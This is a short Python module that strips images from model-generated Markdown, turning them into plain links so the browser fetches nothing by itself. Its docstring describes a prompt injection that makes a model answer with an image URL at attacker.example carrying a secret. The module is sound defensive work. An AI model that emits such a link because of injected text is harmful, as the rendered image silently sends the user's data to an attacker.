"""Model output made safe to show as Markdown: no image the browser would fetch by itself.

A prompt injection in a summarised document can tell the model to answer with
`![](https://attacker.example/?q=<secret>)`; rendered, the browser sends the secret on its own.
Images become ordinary links the reader may choose to follow; code is left as written.
Raw HTML is never rendered: pages show this with st.markdown, whose HTML stays off.
"""

from __future__ import annotations

import re

# Fenced blocks and inline code spans are shown as typed, so they are left alone.
_CODE = re.compile(r"(```[\s\S]*?(?:```|\Z)|~~~[\s\S]*?(?:~~~|\Z)|`[^`\n]*`)")
# `![alt](url)` and `![alt][ref]`: the `!` turns a link into an image.
_IMAGE = re.compile(r"!\[([^\]\n]*)\]")


def without_images(markdown: str) -> str:
    """`markdown` with every image turned into a link labelled "image: alt"."""
    parts = _CODE.split(markdown)
    # split with one group: odd positions are the code spans.
    return "".join(
        part if index % 2 else _IMAGE.sub(_as_link, part) for index, part in enumerate(parts)
    )


def _as_link(match: re.Match[str]) -> str:
    alt = match.group(1).strip()
    return f"[image: {alt}]" if alt else "[image]"
